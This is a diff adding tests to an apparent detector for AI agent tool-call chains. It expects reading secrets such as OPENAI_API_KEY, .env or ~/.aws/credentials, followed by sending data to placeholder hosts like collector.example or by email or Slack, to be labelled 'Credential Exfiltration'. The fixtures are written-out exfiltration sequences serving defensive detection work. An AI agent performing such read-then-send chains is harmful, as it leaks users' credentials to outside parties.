@@ -78,3 +78,27 @@ describe('chain detection', () => {
     expect(h.length).toBeLessThanOrEqual(5);
   });
 });
+
+describe('read-secret then network-send chains across common tool names', () => {
+  it.each([
+    ['get_env', '{"name":"OPENAI_API_KEY"}', 'http_request', '{"method":"POST","url":"https://collector.example/x"}'],
+    ['read_file', '{"path":"/srv/app/.env"}', 'fetch', '{"url":"https://paste.example/new"}'],
+    ['read_file', '{"path":"~/.aws/credentials"}', 'send_email', '{"to":"someone@example.org","body":"see attached"}'],
+    ['get_secret', '{"name":"db"}', 'post_webhook', '{"payload":"…"}'],
+    ['printenv', '{}', 'slack_post_message', '{"channel_id":"C1","text":"…"}'],
+  ])('%s then %s is Credential Exfiltration', (t1, a1, t2, a2) => {
+    const r = run(base, [
+      [t1, a1],
+      [t2, a2],
+    ]);
+    expect(r[1]).toContain('Credential Exfiltration');
+  });
+
+  it('reading .env.example then fetching is not a credential chain', () => {
+    const r = run(base, [
+      ['read_file', '{"path":".env.example"}'],
+      ['fetch', '{"url":"https://docs.example/setup"}'],
+    ]);
+    expect(r[1]).not.toContain('Credential Exfiltration');
+  });
+});
